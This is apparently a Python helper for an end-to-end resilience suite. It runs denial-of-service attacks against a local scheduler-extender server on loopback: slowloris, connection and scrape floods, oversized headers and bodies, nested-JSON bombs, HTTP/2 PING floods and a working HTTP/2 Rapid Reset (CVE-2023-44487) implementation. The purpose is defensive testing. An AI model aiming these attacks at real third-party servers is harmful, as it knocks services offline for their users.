#!/usr/bin/env python3
"""Attacks for e2e/local/hostile-suite.sh, each against a real listener on loopback.

Every command prints one line "key=value ..." that the suite checks. Standard library only.

  ranges HOST PORT N                 GET /healthz with N Range headers
  headers HOST PORT MIB              a request whose headers are MIB MiB long
  body HOST PORT PATH MIB COUNT      COUNT POSTs of MIB MiB (spaces) on one connection
  announce HOST PORT PATH BYTES      only the header of a POST announcing BYTES
  nested HOST PORT PATH MIB [tls]    POST of MIB MiB of '[' (TLS with tls)
  slowloris HOST PORT N SECONDS      N connections dripping a request; probes /healthz meanwhile
  flood HOST PORT N                  N idle connections held open; probes /healthz meanwhile
  rapid-reset HOST PORT STREAMS [tls]
                                     HTTP/2 HEADERS + RST_STREAM pairs (CVE-2023-44487), on a
                                     new connection whenever the server closes one (TLS with
                                     ALPN h2 with tls)
  ping-flood HOST PORT FRAMES [tls]  HTTP/2 PINGs, never reading the acknowledgements
  scrape-flood HOST PORT N SECONDS    N keep-alive connections asking GET /metrics as fast as
                                     they are answered; probes /healthz (1 s timeout) meanwhile
  arrays HOST PORT PATH MIB COUNT [tls]
                                     COUNT connections at once, each POSTing a valid
                                     ExtenderArgs of MIB MiB whose unknown field is [0,0,...];
                                     prints every status, sorted
"""
import socket
import ssl
import struct
import sys
import threading
import time


def connect(host, port, tls=False, timeout=10, alpn=None):
    s = socket.create_connection((host, port), timeout=timeout)
    if tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        if alpn:
            ctx.set_alpn_protocols(alpn)
        s = ctx.wrap_socket(s)
    return s


def read_status(s, timeout=10):
    s.settimeout(timeout)
    data = b""
    try:
        while b"\r\n" not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
    except (socket.timeout, ConnectionError, ssl.SSLError):
        pass
    line = data.split(b"\r\n", 1)[0].decode(errors="replace")
    parts = line.split()
    return int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0


def probe(host, port, path="/healthz"):
    """Seconds for a fresh connection's GET, or -1 when it failed."""
    start = time.time()
    try:
        s = connect(host, port, timeout=5)
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
        status = read_status(s, 5)
        s.close()
        return time.time() - start if status == 200 else -1
    except OSError:
        return -1


def ranges(host, port, n):
    s = connect(host, port)
    header = "".join(f"Range: bytes={i}-{i}\r\n" for i in range(n))
    s.sendall(f"GET /healthz HTTP/1.1\r\nHost: x\r\n{header}\r\n".encode())
    print(f"status={read_status(s)}")


def headers(host, port, mib):
    s = connect(host, port)
    status = 0
    try:
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        line = b"X-Junk: " + b"a" * 1000 + b"\r\n"
        for _ in range(mib * 1024):
            s.sendall(line)
    except OSError:
        pass  # the server answered and closed early: read what it said
    status = read_status(s)
    print(f"status={status}")


def body(host, port, path, mib, count):
    s = connect(host, port, timeout=60)
    payload = b" " * (mib << 20)
    statuses = []
    for _ in range(count):
        s.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                  f"Content-Length: {len(payload)}\r\n\r\n".encode() + payload)
        status = read_status(s, 60)
        statuses.append(status)
        # Drain the rest of the answer (small).
        s.settimeout(0.5)
        try:
            while s.recv(65536):
                pass
        except (socket.timeout, OSError):
            pass
        s.settimeout(60)
    print("statuses=" + ",".join(map(str, statuses)))


def announce(host, port, path, n):
    s = connect(host, port)
    start = time.time()
    s.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {n}\r\n\r\n".encode())
    status = read_status(s)
    print(f"status={status} seconds={time.time() - start:.3f}")


def nested(host, port, path, mib, tls):
    s = connect(host, port, tls=tls, timeout=60)
    payload = b"[" * (mib << 20)
    start = time.time()
    try:
        s.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                  f"Content-Length: {len(payload)}\r\n\r\n".encode() + payload)
    except OSError:
        pass
    status = read_status(s, 60)
    print(f"status={status} seconds={time.time() - start:.3f}")


def slowloris(host, port, n, seconds):
    conns = []
    for _ in range(n):
        try:
            c = connect(host, port)
            c.sendall(b"POST /filter HTTP/1.1\r\nHost: x\r\n")
            conns.append(c)
        except OSError:
            pass
    worst, failed, probes = 0.0, 0, 0
    end = time.time() + seconds
    while time.time() < end:
        for c in conns:
            try:
                c.sendall(b"X")
            except OSError:
                pass
        took = probe(host, port)
        probes += 1
        if took < 0:
            failed += 1
        else:
            worst = max(worst, took)
        time.sleep(0.2)
    cut = 0
    for c in conns:
        try:
            c.settimeout(0.05)
            if c.recv(1) == b"":
                cut += 1
        except socket.timeout:
            pass
        except OSError:
            cut += 1
        c.close()
    print(f"connections={len(conns)} probes={probes} failed={failed} worst={worst:.3f} cut={cut}")


def flood(host, port, n):
    conns = []
    for _ in range(n):
        try:
            conns.append(connect(host, port))
        except OSError:
            break
    worst, failed = 0.0, 0
    for _ in range(10):
        took = probe(host, port)
        if took < 0:
            failed += 1
        else:
            worst = max(worst, took)
    time.sleep(0.5)
    # The server's cap closes the least recently active connections: count those it closed.
    cut = 0
    for c in conns:
        c.setblocking(False)
        try:
            if c.recv(1) == b"":
                cut += 1
        except BlockingIOError:
            pass
        except OSError:
            cut += 1
    for c in conns:
        c.close()
    print(f"connections={len(conns)} probes=10 failed={failed} worst={worst:.3f} cut={cut}")


def h2_frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def hpack_literal(name_index, value):
    # Literal header field without indexing, indexed name (4-bit prefix), raw value.
    if name_index < 15:
        prefix = bytes([name_index])
    else:
        prefix = bytes([15, name_index - 15])
    return prefix + bytes([len(value)]) + value


def rapid_reset(host, port, streams, tls=False):
    headers_block = (b"\x83" + b"\x86" +  # :method POST, :scheme http
                     hpack_literal(4, b"/headroom.v1.ReportService/Report") +
                     hpack_literal(1, b"x") +  # :authority
                     hpack_literal(31, b"application/grpc") +
                     b"\x00\x02te\x08trailers")
    sent, connections = 0, 0
    stream = 1
    s = None
    # A server that refuses every connection (mutual TLS without a client certificate) would
    # keep this loop going for ever: it gives up after 50 connections in a row took nothing,
    # or a minute.
    give_up = time.time() + 60
    refused_in_a_row = 0
    while sent < streams and time.time() < give_up and refused_in_a_row < 50:
        if s is None:
            try:
                s = connect(host, port, tls=tls, alpn=["h2"])
            except OSError:
                time.sleep(0.1)
                continue
            connections += 1
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
            s.setblocking(False)
            stream = 1
        batch = b""
        for _ in range(200):
            batch += h2_frame(1, 4, stream, headers_block)
            batch += h2_frame(3, 0, stream, struct.pack(">I", 8))  # RST_STREAM CANCEL
            stream += 2
        try:
            s.setblocking(True)
            s.sendall(batch)
            s.setblocking(False)
            sent += 200
            refused_in_a_row = 0
            try:
                while s.recv(65536):
                    pass
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
        except OSError:
            s.close()
            s = None
            refused_in_a_row += 1
        if stream > 2**30:
            s.close()
            s = None
    print(f"streams={sent} connections={connections}")


def ping_flood(host, port, frames, tls=False):
    """PINGs in batches of 500 on one connection; prints how many went before a close."""
    s = connect(host, port, tls=tls, alpn=["h2"])
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
    sent, closed = 0, 0
    batch = h2_frame(6, 0, 0, b"12345678") * 500
    try:
        while sent < frames:
            s.sendall(batch)
            sent += 500
    except OSError:
        closed = 1
    if not closed:
        s.settimeout(5)
        try:
            while s.recv(65536):
                pass
            closed = 1
        except (socket.timeout, OSError):
            closed = 1 if not isinstance(sys.exc_info()[1], socket.timeout) else 0
    s.close()
    print(f"frames={sent} closed={closed}")


def scrape_flood(host, port, n, seconds):
    import selectors
    sel = selectors.DefaultSelector()
    request = b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n"
    for _ in range(n):
        try:
            c = socket.create_connection((host, port), timeout=5)
        except OSError:
            break
        c.setblocking(False)
        try:
            c.send(request)
        except OSError:
            c.close()
            continue
        sel.register(c, selectors.EVENT_READ)
    stop = time.time() + seconds
    latencies, failed = [], 0

    def probes():
        nonlocal failed
        while time.time() < stop:
            took = probe(host, port)
            if took < 0 or took > 1.0:
                failed += 1
            else:
                latencies.append(took)
            time.sleep(0.1)

    prober = threading.Thread(target=probes)
    prober.start()
    scrapes = 0
    while time.time() < stop:
        for key, _ in sel.select(timeout=0.1):
            c = key.fileobj
            try:
                data = c.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                sel.unregister(c)
                c.close()
                continue
            # A new request once an answer's end is seen (answers are small: one read or a few).
            if data.endswith(b"\n"):
                scrapes += 1
                try:
                    c.send(request)
                except OSError:
                    pass
    prober.join()
    for key in list(sel.get_map().values()):
        key.fileobj.close()
    latencies.sort()
    p99 = latencies[min(len(latencies) - 1, int(0.99 * len(latencies)))] if latencies else -1
    print(f"scrapes={scrapes} probes={len(latencies) + failed} failed={failed} p99={p99:.3f}")


def array_body(mib):
    """A valid filter body of `mib` MiB: a Pod, one node name, and an unknown [0,0,...]."""
    head = (b'{"Pod":{"metadata":{"name":"p","namespace":"junk","uid":"u"},'
            b'"spec":{"containers":[{"name":"c"}]}},"NodeNames":["junk-0"],"Unknown":[0')
    zeros = (mib << 20) - len(head) - 2
    return head + b",0" * (zeros // 2) + b"]}"


def arrays(host, port, path, mib, count, tls):
    payload = array_body(mib)
    statuses = [0] * count
    ready = threading.Barrier(count)

    def send(i):
        # The header first: a server that refuses from it (413, 503) answers before the body,
        # which is then not sent (the answer would be lost in the reset of a refused upload).
        try:
            s = connect(host, port, tls=tls, timeout=120)
            ready.wait()
            s.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                      f"Content-Length: {len(payload)}\r\n\r\n".encode())
            early = read_status(s, 0.5)
            if early:
                statuses[i] = early
                return
            s.settimeout(120)
            s.sendall(payload)
            statuses[i] = read_status(s, 120)
        except (OSError, threading.BrokenBarrierError):
            pass

    start = time.time()
    threads = [threading.Thread(target=send, args=(i,)) for i in range(count)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(f"statuses={','.join(map(str, sorted(statuses)))} seconds={time.time() - start:.3f}")


def latency(host, port, seconds, filter_body_file):
    """What the kubelet and the scheduler see during an attack run elsewhere: /healthz and
    /filter (the body in the file) each on its own keep-alive connection, 20 a second, for
    `seconds`. A call slower than 1 s or not 200 counts as failed."""
    import http.client
    body = open(filter_body_file, "rb").read()
    stop = time.time() + seconds
    results = {"healthz": [], "filter": []}
    failed = {"healthz": 0, "filter": 0}

    def run(kind):
        conn = None
        while time.time() < stop:
            start = time.time()
            try:
                if conn is None:
                    conn = http.client.HTTPConnection(host, port, timeout=5)
                if kind == "healthz":
                    conn.request("GET", "/healthz")
                else:
                    conn.request("POST", "/filter", body, {"Content-Type": "application/json"})
                response = conn.getresponse()
                response.read()
                took = time.time() - start
                if response.status != 200 or took > 1.0:
                    failed[kind] += 1
                results[kind].append(took)
            except (OSError, http.client.HTTPException):
                failed[kind] += 1
                results[kind].append(time.time() - start)
                conn = None
            time.sleep(max(0.0, 0.05 - (time.time() - start)))

    threads = [threading.Thread(target=run, args=(k,)) for k in results]
    for t in threads:
        t.start()
    for t in threads:
        t.join()

    def p99(values):
        values = sorted(values)
        return values[min(len(values) - 1, int(0.99 * len(values)))] if values else -1

    print(f"healthz_probes={len(results['healthz'])} healthz_failed={failed['healthz']} "
          f"healthz_p99_ms={p99(results['healthz']) * 1000:.1f} "
          f"filter_calls={len(results['filter'])} filter_failed={failed['filter']} "
          f"filter_p99_ms={p99(results['filter']) * 1000:.1f}")


def get_flood(host, port, paths, threads, seconds):
    """`threads` keep-alive clients each GETting the comma-separated `paths` in turn, as fast
    as answered, for `seconds`: the count of each status."""
    import http.client
    targets = paths.split(",")
    stop = time.time() + seconds
    counts = {}
    lock = threading.Lock()

    def run(i):
        conn = None
        n = i
        while time.time() < stop:
            try:
                if conn is None:
                    conn = http.client.HTTPConnection(host, port, timeout=10)
                conn.request("GET", targets[n % len(targets)])
                response = conn.getresponse()
                response.read()
                status = response.status
            except (OSError, http.client.HTTPException):
                status = "error"
                conn = None
            n += 1
            with lock:
                counts[status] = counts.get(status, 0) + 1

    workers = [threading.Thread(target=run, args=(i,)) for i in range(threads)]
    for w in workers:
        w.start()
    for w in workers:
        w.join()
    print(" ".join(f"s{k}={v}" for k, v in sorted(counts.items(), key=str)) +
          f" requests={sum(counts.values())}")


def main():
    cmd, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    args = sys.argv[4:]
    if cmd == "ranges":
        ranges(host, port, int(args[0]))
    elif cmd == "headers":
        headers(host, port, int(args[0]))
    elif cmd == "body":
        body(host, port, args[0], int(args[1]), int(args[2]))
    elif cmd == "announce":
        announce(host, port, args[0], int(args[1]))
    elif cmd == "nested":
        nested(host, port, args[0], int(args[1]), len(args) > 2 and args[2] == "tls")
    elif cmd == "slowloris":
        slowloris(host, port, int(args[0]), float(args[1]))
    elif cmd == "flood":
        flood(host, port, int(args[0]))
    elif cmd == "rapid-reset":
        rapid_reset(host, port, int(args[0]), len(args) > 1 and args[1] == "tls")
    elif cmd == "scrape-flood":
        scrape_flood(host, port, int(args[0]), float(args[1]))
    elif cmd == "arrays":
        arrays(host, port, args[0], int(args[1]), int(args[2]), len(args) > 3 and args[3] == "tls")
    elif cmd == "get-flood":
        get_flood(host, port, args[0], int(args[1]), float(args[2]))
    elif cmd == "latency":
        latency(host, port, float(args[0]), args[1])
    elif cmd == "ping-flood":
        ping_flood(host, port, int(args[0]), len(args) > 1 and args[1] == "tls")
    else:
        sys.exit(f"unknown command {cmd}")


if __name__ == "__main__":
    main()
